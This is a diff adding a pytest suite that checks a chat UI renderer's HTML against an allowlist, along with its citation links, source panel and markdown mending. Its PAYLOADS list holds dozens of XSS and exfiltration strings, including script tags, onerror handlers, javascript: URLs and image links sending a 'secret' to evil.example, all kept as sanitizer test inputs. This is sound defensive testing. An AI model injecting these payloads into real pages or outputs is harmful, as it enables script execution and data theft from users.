@@ -1,0 +1,429 @@
+"""What the one renderer lets through. Its output is read by an HTML5 parser and held against an allowlist."""
+
+from __future__ import annotations
+
+import dataclasses
+import re
+from html import unescape
+
+import pytest
+from fake_agent import answer, passage
+from hypothesis import given, settings
+from hypothesis import strategies as st
+from selectolax.lexbor import LexborHTMLParser
+
+from agent.state import Sentence, Source
+from ui import strings
+from ui.markup import CLOSE, OPEN, clean, markdown, marked, mend
+from ui.render import (
+    answer_html,
+    draft_html,
+    error_html,
+    question_html,
+    source_path,
+    stopped_html,
+    supported_text,
+    web_address,
+)
+from ui.render_nav import threads_html
+from ui.render_panel import locate, panel_html
+from ui.render_path import path_html
+
+EN, JA = strings.load("en"), strings.load("ja")
+LIBRARY = Source(1, passage(1, "The museum opens at nine.", title="Handbook", heading=("Handbook", "Hours")), "opens at nine")
+WEB = Source(2, passage(2, "Trains run hourly.", title="Trains", kind="web", url="https://rail.example/times?a=1&b=2"), "hourly")
+
+TAGS = set(
+    "html head body a article blockquote br button code dd del details div dl dt em figcaption figure h2 h3 h4 h5 h6 hr "
+    "img li mark nav ol p pre s span strong summary sup table tbody td th thead time tr ul".split()
+)
+ATTRIBUTES = {"class", "href", "src", "alt", "title", "lang", "value", "type", "rel", "target", "datetime", "start", "align", "loading", "open"}
+LINK = re.compile(
+    r"/api/threads/[\w%.-]+/answers/\d+/sources/\d+(/document|/page\.png)?|https://rail\.example/times\?a=1&b=2|\?thread=[\w%.-]*"
+)
+
+
+def inspect(html: str) -> LexborHTMLParser:
+    """Parse as a browser does and assert that nothing but the allowlist is there."""
+    assert "\n" not in html, "Markdown behind us would see more than one block"
+    tree = LexborHTMLParser(f"<body>{html}</body>")
+    for node in tree.root.traverse():  # type: ignore[union-attr]
+        assert node.tag in TAGS, f"<{node.tag}> in {html}"
+        for name, value in node.attributes.items():
+            assert name in ATTRIBUTES, f"{name}={value!r} in {html}"
+            if name in ("href", "src"):
+                assert LINK.fullmatch(value or ""), f"{name}={value!r} in {html}"
+            if name == "class":
+                assert all(c.startswith("kotae-") for c in (value or "").split())
+    return tree
+
+
+PAYLOADS = [
+    "<script>fetch('//evil.example')</script>",
+    "<ScRiPt src=https://evil.example/x.js></ScRiPt>",
+    "<img src=x onerror=alert(1)>",
+    "<img src='https://evil.example/?q=secret'>",
+    "<IMG SRC=\"jav&#x09;ascript:alert('XSS');\">",
+    "<svg onload=alert(1)>",
+    "<svg><script>alert(1)</script></svg>",
+    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
+    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
+    "<iframe src=javascript:alert(1)></iframe>",
+    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
+    "<object data=https://evil.example></object>",
+    "<embed src=https://evil.example>",
+    "<link rel=stylesheet href=https://evil.example/x.css>",
+    "<link rel=prefetch href=https://evil.example/?d=1>",
+    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
+    "<base href=https://evil.example/>",
+    "<form action=https://evil.example><input name=q><button>go</button></form>",
+    "<button formaction=javascript:alert(1)>x</button>",
+    "<video poster=https://evil.example/p.png></video>",
+    "<audio src=https://evil.example/a.mp3 autoplay></audio>",
+    "<source srcset=https://evil.example/a.png>",
+    "<table background=https://evil.example/a.png><tr><td>x</td></tr></table>",
+    "<div style='background:url(https://evil.example/a.png)'>x</div>",
+    "<style>@import 'https://evil.example/x.css';</style>",
+    "<a href=javascript:alert(1)>x</a>",
+    "<a href=https://evil.example ping=https://evil.example/p>x</a>",
+    "<details open ontoggle=alert(1)>x</details>",
+    "<body onload=alert(1)>",
+    "<input autofocus onfocus=alert(1)>",
+    "<marquee onstart=alert(1)>x</marquee>",
+    "<template><script>alert(1)</script></template>",
+    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
+    "<!--<img src=\"--><img src=x onerror=alert(1)//\">",
+    "<![CDATA[<img src=x onerror=alert(1)>]]>",
+    "<?xml version='1.0'?><x onclick=alert(1)>",
+    "<textarea><img src=x onerror=alert(1)></textarea>",
+    "<title><img src=x onerror=alert(1)></title>",
+    "</div></div><script>alert(1)</script>",
+    "\"><script>alert(1)</script>",
+    "' onmouseover='alert(1)",
+    "![secret](https://evil.example/?q=secret)",
+    "![a][1]\n\n[1]: https://evil.example/a.png",
+    "[click](https://evil.example/?q=secret)",
+    "[click](javascript:alert(1))",
+    "[click](JaVaScRiPt:alert(1))",
+    "[click](data:text/html;base64,PHNjcmlwdD4=)",
+    "[click](vbscript:msgbox(1))",
+    "[click](//evil.example)",
+    "[click](\\\\evil.example\\share)",
+    "[click](https://rail.example/times?a=1&b=2&secret=1)",
+    "[click](https://rail.example@evil.example/)",
+    "[click](https:evil.example)",
+    "[click](/chat/en/?thread=x)",
+    "[click](file:///etc/passwd)",
+    "[1](https://evil.example)",
+    "[1]: https://evil.example\n\nSee [1] and [1][1].",
+    "[2][1]\n\n[1]: javascript:alert(1)",
+    "[^1]: <https://evil.example>",
+    "<https://evil.example/?q=secret>",
+    "<javascript:alert(1)>",
+    "https://evil.example/?q=secret",
+    "www.evil.example",
+    "someone@evil.example",
+    "[![x](https://evil.example/a.png)](https://evil.example)",
+    "```html\n<script>alert(1)</script>\n```",
+    "`<img src=x onerror=alert(1)>`",
+    "    <script>alert(1)</script>",
+    "| a |\n|---|\n| <img src=https://evil.example> |",
+    "# <img src=x onerror=alert(1)>",
+    "> <script>alert(1)</script>",
+    "* <a href='https://evil.example'>x</a>",
+    "&lt;script&gt;alert(1)&lt;/script&gt;",
+    "&#60;img src=x onerror=alert(1)&#62;",
+    "\\<script\\>alert(1)\\</script\\>",
+    "<scr\x00ipt>alert(1)</scr\x00ipt>",
+    "\u202e<script>alert(1)</script>",
+    "＜script＞alert(1)＜/script＞",
+    "\ue000<script>\ue001alert(1)",
+    "$$\\href{javascript:alert(1)}{x}$$",
+    "\\(\\includegraphics{https://evil.example}\\)",
+    "<a\nhref=https://evil.example>x</a>",
+    "<p\n\n<img src=https://evil.example>",
+    "[a](<https://evil.example/ x> \"t\")",
+    "[a](https://evil.example \"[1]\")",
+    "<custom-element onclick=alert(1)>x</custom-element>",
+    "<thinking><img src=x onerror=alert(1)></thinking>",
+    "[a\\](https://evil.example)](https://evil.example)",
+]
+
+
+def test_there_are_enough_payloads() -> None:
+    assert len(set(PAYLOADS)) >= 60
+
+
+@pytest.mark.parametrize("payload", PAYLOADS)
+def test_no_payload_gets_through_any_fragment(payload: str) -> None:
+    bad = dataclasses.replace(
+        LIBRARY,
+        passage=dataclasses.replace(
+            LIBRARY.passage, text=payload, title=payload, heading=(payload,), url=f"{payload}.md", id=payload
+        ),
+        quote=payload,
+    )
+    web = dataclasses.replace(WEB, passage=dataclasses.replace(WEB.passage, title=payload, text=payload))
+    given = answer(f"Before. {payload} [1] After.", bad, web)
+    fragments = [
+        answer_html(given, EN, thread="t1", index=0, last=True),
+        answer_html(dataclasses.replace(given, refused=True), JA, thread="t1", index=0),
+        draft_html(payload, EN),
+        question_html(payload, EN, index=0),
+        error_html(payload, EN),
+        panel_html(bad, EN, path=source_path("t1", 0, 1), before=payload, after=payload, page_image=True),
+        panel_html(web, JA, path=source_path("t1", 0, 2)),
+        threads_html([_Thread("t1", payload)], "t1", EN, now=10.0),  # type: ignore[list-item]
+    ]
+    for html in fragments:
+        inspect(html)
+
+
+@pytest.mark.parametrize("payload", PAYLOADS)
+def test_no_payload_gets_through_character_by_character(payload: str) -> None:
+    text = f"As [1] says: {payload}"
+    for end in range(len(text) + 1):
+        inspect(draft_html(text[:end], EN))
+
+
+@pytest.mark.parametrize("payload", PAYLOADS)
+def test_an_answer_has_no_way_to_another_host(payload: str) -> None:
+    html = answer_html(answer(payload, LIBRARY), EN, thread="t", index=3)
+    links = [node.attributes.get("href") for node in LexborHTMLParser(html).css("a")]
+    assert set(links) <= {source_path("t", 3, 1)}
+    assert not LexborHTMLParser(html).css("img")
+
+
+@given(st.text(max_size=80))
+@settings(max_examples=150, deadline=None)
+def test_whatever_the_text_the_allowlist_holds(text: str) -> None:
+    inspect(draft_html(text, EN))
+    inspect(answer_html(answer(text, LIBRARY, WEB), EN, thread="t1", index=0))
+
+
+@dataclasses.dataclass(frozen=True)
+class _Thread:
+    id: str
+    title: str
+    updated: float = 0.0
+
+
+def cites(html: str) -> list[tuple[str, str]]:
+    return [
+        (node.text(deep=True).replace("Source ", ""), str(node.attributes["href"]))
+        for node in LexborHTMLParser(html).css("a.kotae-cite")
+    ]
+
+
+@pytest.mark.parametrize(
+    ("text", "expected"),
+    [
+        ("At nine [1].", [1]),
+        ("At nine [1][2].", [1, 2]),
+        ("At nine [1, 2].", [1, 2]),
+        ("九時です[1、2]。", [1, 2]),
+        ("Nothing [7].", []),
+        ("In code `[1]`.", []),
+        ("In a list:\n\n- nine [1]\n- ten [2]", [1, 2]),
+        ("**bold [1]**", [1]),
+        ("[1](https://evil.example)", [1]),
+        ("[12345]", []),
+    ],
+)
+def test_citations_lead_to_their_sources(text: str, expected: list[int]) -> None:
+    html = answer_html(answer(text, LIBRARY, WEB), EN, thread="a b", index=4)
+    assert cites(html) == [(str(n), f"/api/threads/a%20b/answers/4/sources/{n}") for n in expected]
+
+
+def test_a_number_without_a_source_stays_as_it_was_written() -> None:
+    html = answer_html(answer("Since [9] it is so.", LIBRARY), EN, thread="t", index=0)
+    assert "Since [9] it is so." in html
+
+
+def test_a_draft_cites_but_does_not_link() -> None:
+    tree = inspect(draft_html("At nine [1].", EN))
+    assert tree.css_first("sup .kotae-cite").text() == "1"
+    assert not tree.css("a")
+    assert EN("message.checking") in tree.body.text()  # type: ignore[union-attr]
+
+
+def test_unsupported_sentences_are_never_shown() -> None:
+    given = answer("It opens at nine [1]. It is free on Mondays [1].", LIBRARY)
+    given = dataclasses.replace(
+        given,
+        sentences=(
+            Sentence("It opens at nine [1].", (1,), True),
+            Sentence("It is free on Mondays [1].", (1,), False),
+        ),
+    )
+    html = answer_html(given, EN, thread="t", index=0)
+    assert "free on Mondays" not in html
+    assert "It opens at nine" in html
+    assert EN("answer.removed_one") in unescape(html)
+    assert supported_text(dataclasses.replace(given, route="direct"))[1] == 0
+
+
+def test_a_refused_answer_looks_different_and_shows_the_nearest_passages() -> None:
+    tree = inspect(answer_html(answer("I do not know.", LIBRARY, refused=True), EN, thread="t", index=0))
+    assert tree.css_first(".kotae-answer.kotae-is-refused")
+    assert tree.css_first(".kotae-label").text() == EN("answer.refused")
+    assert tree.css_first(".kotae-head").text() == EN("answer.nearest")
+    assert "opens at nine" in tree.css_first(".kotae-excerpt").text()
+
+
+def test_notices_are_in_the_readers_language_and_unknown_ones_are_silent() -> None:
+    given = answer("x", LIBRARY, notices=("web_off", "brand_new"))
+    html = answer_html(given, JA, thread="t", index=0)
+    assert JA("notice.web_off") in html
+    assert "brand_new" not in html
+
+
+@pytest.mark.parametrize(
+    ("url", "kind", "expected"),
+    [
+        ("https://a.example/x", "web", "https://a.example/x"),
+        ("http://a.example/x", "web", "http://a.example/x"),
+        ("javascript:alert(1)", "web", ""),
+        ("https://good@evil.example", "web", ""),
+        ("file:///etc/passwd", "web", ""),
+        ("https://[broken", "web", ""),
+        ("", "web", ""),
+        ("https://a.example/x", "library", ""),
+    ],
+)
+def test_only_web_passages_with_a_plain_address_can_be_visited(url: str, kind: str, expected: str) -> None:
+    assert web_address(passage(1, "x", url=url, kind=kind)) == expected
+
+
+def test_a_link_to_a_source_of_the_turn_stays() -> None:
+    html = answer_html(answer("See [times](https://rail.example/times?a=1&b=2).", WEB), EN, thread="t", index=0)
+    link = next(n for n in LexborHTMLParser(html).css(".kotae-text a") if n.text() == "times")
+    assert link.attributes["target"] == "_blank"
+    assert "noopener" in str(link.attributes["rel"])
+
+
+def test_a_question_is_shown_as_typed() -> None:
+    tree = inspect(question_html("a **b** <i>c</i> [1]\nd\n\ne", EN, index=2))
+    assert tree.css_first(".kotae-text").text(separator="|", deep=True) == "a **b** <i>c</i> [1]|d|e"
+    assert [b.attributes["value"] for b in tree.css("button")] == ["2", "2"]
+
+
+def test_only_the_last_answer_can_be_tried_again() -> None:
+    for last in (True, False):
+        for html in (
+            answer_html(answer("x", LIBRARY), EN, thread="t", index=1, last=last),
+            stopped_html(EN, index=1, last=last),
+        ):
+            assert bool(LexborHTMLParser(html).css("button.kotae-retry")) is last
+
+
+@pytest.mark.parametrize(
+    ("text", "shown"),
+    [
+        ("It opens [1", "It opens "),
+        ("It opens [", "It opens "),
+        ("It opens [1, ", "It opens "),
+        ("a **bold", "a **bold**"),
+        ("a **bold*", "a **bold**"),
+        ("a **bold** b", "a **bold** b"),
+        ("a `code", "a `code`"),
+        ("```\n[1", "```\n"),
+        ("one **a**\n\ntwo **b", "one **a**\n\ntwo **b**"),
+        ("- a **", "- a "),
+        ("2 * 3", "2 * 3"),
+        ("", ""),
+    ],
+)
+def test_unfinished_markdown_is_mended(text: str, shown: str) -> None:
+    assert mend(text) == shown
+
+
+@pytest.mark.parametrize(
+    ("text", "expected"),
+    [
+        (f"a {OPEN}b{CLOSE} c", "<p>a <mark>b</mark> c</p>"),
+        (f"**a {OPEN}b** c{CLOSE}", "<p><strong>a <mark>b</mark></strong><mark> c</mark></p>"),
+        (f"`{OPEN}x{CLOSE}`", "<p><code><mark>x</mark></code></p>"),
+        (f"a {OPEN}<b>{CLOSE}", "<p>a <mark>&lt;b&gt;</mark></p>"),
+        (f"[a](https://x.example/{OPEN}b{CLOSE})", None),
+    ],
+)
+def test_words_are_marked_within_markdown(text: str, expected: str | None) -> None:
+    got = marked(text)
+    assert (got.strip() if got else got) == expected
+
+
+def test_a_mark_runs_over_paragraphs_and_list_items() -> None:
+    html = marked(f"one {OPEN}two\n\nthree\n\n- four{CLOSE} five") or ""
+    assert re.findall(r"<mark>(.*?)</mark>", html) == ["two", "three", "four"]
+
+
+@pytest.mark.parametrize(
+    ("quote", "text", "expected"),
+    [
+        ("at nine", "opens at nine.", "at nine"),
+        ("at  nine", "opens at\n nine.", "at\n nine"),
+        ("AT NINE", "opens at nine.", "at nine"),
+        ("開館は 九時", "開館は九時です", "開館は九時"),
+        ("ten", "opens at nine.", None),
+        ("", "text", None),
+        ("a.c", "abc", None),
+    ],
+)
+def test_the_quote_is_found(quote: str, text: str, expected: str | None) -> None:
+    span = locate(quote, text)
+    assert (text[slice(*span)] if span else None) == expected
+
+
+def test_the_panel_shows_the_passage_in_its_surroundings() -> None:
+    path = source_path("t", 0, 1)
+    tree = inspect(panel_html(LIBRARY, EN, path=path, before="half\n\n## Hours\n\n", after="\n\nClosed on Mondays.\nhalf"))
+    assert tree.css_first("mark").text() == "opens at nine"
+    text = tree.css_first(".kotae-context").text(deep=True)
+    assert "Hours" in text
+    assert "Closed on Mondays." in text
+    assert "half" not in text
+    assert tree.css_first("a.kotae-go").attributes["href"] == f"{path}/document"
+    assert not tree.css("img")
+
+
+def test_the_panel_of_a_pdf_shows_its_page() -> None:
+    pdf = dataclasses.replace(LIBRARY, passage=dataclasses.replace(LIBRARY.passage, page=3, url="/a/b.pdf"))
+    path = source_path("t", 0, 1)
+    tree = inspect(panel_html(pdf, JA, path=path, page_image=True))
+    assert tree.css_first("img").attributes["src"] == f"{path}/page.png"
+    assert tree.css_first("img").attributes["alt"] == JA("panel.page_image", page=3, title="Handbook")
+
+
+def test_the_panel_of_a_document_that_is_gone_says_so_and_offers_no_way_to_it() -> None:
+    tree = inspect(panel_html(LIBRARY, EN, path="/api/threads/t/answers/0/sources/1", present=False))
+    assert EN("panel.gone") in tree.body.text()  # type: ignore[union-attr]
+    assert not tree.css("a")
+
+
+def test_marks_in_a_document_mean_nothing() -> None:
+    odd = dataclasses.replace(LIBRARY, passage=dataclasses.replace(LIBRARY.passage, text=f"{CLOSE}a{OPEN} opens at nine"))
+    assert [m.text() for m in inspect(panel_html(odd, EN, path="/api/threads/t/answers/0/sources/1")).css("mark")] == [
+        "opens at nine"
+    ]
+
+
+def test_clean_removes_what_is_not_ours() -> None:
+    html = clean(
+        '<p class="kotae-x evil" style="color:red" onclick="x()">a\nb</p><a href="/other">c</a><img src="/other">',
+        links={"/mine"},
+    )
+    assert html == '<p class="kotae-x">a&#10;b</p><a rel="noopener noreferrer">c</a><img>'
+
+
+def test_headings_stay_below_those_of_the_page() -> None:
+    assert "<h3>" in markdown("# a")
+    assert "<h6>" in markdown("###### a")
+
+
+def test_the_path_says_what_was_done() -> None:
+    text = inspect(path_html(answer("x").steps, EN)).body.text(separator="|", deep=True)  # type: ignore[union-attr]
+    assert "Look in the documents · as similar questions are · 93 % sure" in text
+    assert "3 passages for “opening hours”, from Handbook" in text
+    assert "2 sentences checked, 2 supported" in text
+    assert "< 0.01 s" in text
